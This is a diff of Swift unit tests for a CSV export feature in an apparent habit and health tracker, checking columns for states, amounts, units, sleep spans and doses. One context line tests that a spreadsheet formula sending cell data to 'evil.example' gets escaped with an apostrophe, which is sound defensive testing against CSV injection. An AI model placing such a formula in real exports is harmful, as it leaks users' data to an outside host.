@@ -108,10 +108,54 @@ final class ExportRendererTests: XCTestCase {
         XCTAssertEqual(CSVRenderer.table([["a", "b,c"], ["1", ""]]), "a,\"b,c\"\r\n1,\r\n")
         let csv = CSVRenderer.entries(F.load(text + "## 2026-11-21\n- 07:45 drink espresso x2 #work\n- mood 4 \"good\", slow\n"), period: nil)
         let rows = csv.components(separatedBy: "\r\n")
-        XCTAssertTrue(rows[0].hasPrefix("date,time,kind,name,amount,unit,caffeine,water,energy,"), rows[0])
-        XCTAssertTrue(rows.contains("2026-11-20,10:00,event,\"GP check-up, bloods; fasting \\ bring the letter\",,,,,,,,,,,,,,health,Riverside Surgery"), csv)
-        XCTAssertTrue(rows.contains("2026-11-21,07:45,drink,espresso x2,,,126,60,6,0,0,0,0,0,0,0,,work,"), csv)
-        XCTAssertTrue(rows.contains("2026-11-21,,mood,,,,,,,,,,,,,,4,,\"\"\"good\"\", slow\""), csv)
+        XCTAssertTrue(rows[0].hasPrefix("date,time,kind,name,amount,unit,state,start,end,quality,caffeine,water,energy,"), rows[0])
+        XCTAssertTrue(rows.contains("2026-11-20,10:00,event,\"GP check-up, bloods; fasting \\ bring the letter\",,,,,,,,,,,,,,,,,,health,Riverside Surgery"), csv)
+        XCTAssertTrue(rows.contains("2026-11-21,07:45,drink,espresso,2,x,,,,,126,60,6,0,0,0,0,0,0,0,,work,"), csv)
+        XCTAssertTrue(rows.contains("2026-11-21,,mood,,,,,,,,,,,,,,,,,,4,,\"\"\"good\"\", slow\""), csv)
+    }
+
+    /// A row keeps what the line says: a habit mark's state and the unit of its number, a
+    /// drink's count apart from its name, a sleep's span and quality, a to-do's and a dose's state.
+    func testCSVRowsKeepStatesSpansCountsAndUnits() {
+        let csv = CSVRenderer.entries(F.load("""
+            ## Settings
+            - habit meditate daily
+            - habit read daily
+            - med metformin 500 mg at 08:00
+
+            ## 2026-11-20
+            - sleep 22:56-06:57 quality 5
+            - 07:00 drink espresso x2
+            - 07:10 drink water 500 ml x2
+            - 08:05 took metformin
+            - [x] meditate
+            - [-] read
+            - [ ] order new trainers
+            ## 2026-11-21
+            - [ ] meditate
+            - [x] read 25 pages
+            - [x] read 5km
+
+            """), period: nil)
+        let rows = csvRows(csv)
+        let header = rows[0]
+        func row(_ date: String, _ kind: String, _ name: String) -> [String: String] {
+            let r = rows.first { $0[0] == date && $0[2] == kind && $0[3] == name } ?? []
+            return Dictionary(uniqueKeysWithValues: zip(header, r))
+        }
+        XCTAssertEqual(row("2026-11-20", "habit", "meditate")["state"], "done")
+        XCTAssertEqual(row("2026-11-20", "habit", "read")["state"], "excused")
+        XCTAssertEqual(row("2026-11-21", "habit", "meditate")["state"], "not done")
+        let pages = rows.filter { $0[2] == "habit" && $0[3] == "read" && $0[0] == "2026-11-21" }.map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }
+        XCTAssertEqual(pages.map { [$0["amount"]!, $0["unit"]!, $0["state"]!] }, [["25", "pages", "done"], ["5", "km", "done"]])
+        let espresso = row("2026-11-20", "drink", "espresso")
+        XCTAssertEqual([espresso["amount"], espresso["unit"], espresso["caffeine"]], ["2", "x", "126"])
+        let water = row("2026-11-20", "drink", "water")
+        XCTAssertEqual([water["amount"], water["unit"], water["water"]], ["1000", "ml", "1000"])
+        let sleep = row("2026-11-20", "sleep", "")
+        XCTAssertEqual([sleep["start"], sleep["end"], sleep["quality"], sleep["amount"], sleep["unit"]], ["22:56", "06:57", "5", "481", "min"])
+        XCTAssertEqual(row("2026-11-20", "took", "metformin")["state"], "taken")
+        XCTAssertEqual(row("2026-11-20", "task", "order new trainers")["state"], "open")
     }
 
     /// The fields of CSV text (RFC 4180), row by row.
@@ -168,7 +212,7 @@ final class ExportRendererTests: XCTestCase {
         }
         // (A tag begins with a letter: `#=tag` is text of the note.)
         XCTAssertEqual(seen, ["name", "note"], csv)
-        XCTAssertTrue(rows.contains { $0[3] == "'-drink x2" && $0.last == "'-5" }, csv)
+        XCTAssertTrue(rows.contains { $0[3] == "'-drink" && $0[4] == "2" && $0[5] == "x" && $0.last == "'-5" }, csv)
         XCTAssertTrue(rows.contains { $0[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" }, csv)
         XCTAssertTrue(rows.contains { $0[2] == "note" && $0.last == "'-3 degrees outside" }, csv)
         XCTAssertTrue(rows.contains { $0[2] == "weight" && $0[4] == "63.4" && $0[5] == "kg" }, csv)
